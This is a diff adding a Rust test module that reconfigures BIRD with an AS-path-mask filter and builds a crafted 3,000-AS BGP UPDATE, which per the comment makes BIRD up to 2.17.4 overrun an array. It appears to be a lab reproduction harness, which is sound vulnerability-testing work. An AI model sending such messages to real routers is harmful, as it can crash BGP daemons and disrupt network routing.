@@ -48,3 +48,53 @@ pub mod cve_2023_46753 {
         }
     }
 }
+
+/// BIRD up to 2.17.4 with a path mask in a filter runs over an array where the path has some thousands of ASes; extended messages
+/// (RFC 8654) carry one.
+pub mod as_path_mask {
+    use crate::daemons::Instance;
+    use crate::lab::Netns;
+    use crate::operate;
+    use anyhow::{Context, Result, ensure};
+    use std::fs;
+
+    /// ASes in the path.
+    const LENGTH: u32 = 3_000;
+
+    /// Gives a running BIRD the filter and extended messages; before its sessions stand, for they are negotiated at their start.
+    pub fn configure(bird: &Instance, ns: &Netns) -> Result<()> {
+        let path = bird.folder().join("bgp.conf");
+        let text = fs::read_to_string(&path).context("BIRD's configuration")?;
+        let filter = "filter masked { if bgp_path ~ [= * 64999 * =] then reject; accept; }\n\nfilter to_peer {";
+        let text = text
+            .replacen("filter to_peer {", filter, 1)
+            .replace("import all;", "import filter masked;")
+            .replace("    connect delay time", "    enable extended messages on;\n    connect delay time");
+        ensure!(text.contains("import filter masked;"), "BIRD's configuration has no import to filter: {text}");
+        fs::write(&path, text)?;
+        operate::control(bird, ns, "configure").map(|_| ())
+    }
+
+    /// UPDATE of 12,066 octets for 198.51.100.0/24, ordinary and valid, in hexadecimal.
+    pub fn update(first_as: u32, next_hop: [u8; 4]) -> String {
+        let path: Vec<u32> = (0..LENGTH).map(|n| if n == 0 { first_as } else { 200_000 + n }).collect();
+        let segment = |s: &[u32]| {
+            let members = s.iter().flat_map(|asn| asn.to_be_bytes());
+            [2, s.len() as u8].into_iter().chain(members).collect::<Vec<u8>>()
+        };
+        let as_path: Vec<u8> = path.chunks(255).flat_map(segment).collect();
+        let mut attributes = vec![0x40, 1, 1, 0, 0x50, 2];
+        attributes.extend((as_path.len() as u16).to_be_bytes());
+        attributes.extend(as_path);
+        attributes.extend([0x40, 3, 4]);
+        attributes.extend(next_hop);
+        let nlri = [24, 198, 51, 100];
+        let mut message = vec![0xff; 16];
+        message.extend(((23 + attributes.len() + nlri.len()) as u16).to_be_bytes());
+        message.extend([2, 0, 0]);
+        message.extend((attributes.len() as u16).to_be_bytes());
+        message.extend(attributes);
+        message.extend(nlri);
+        message.iter().map(|b| format!("{b:02x}")).collect()
+    }
+}
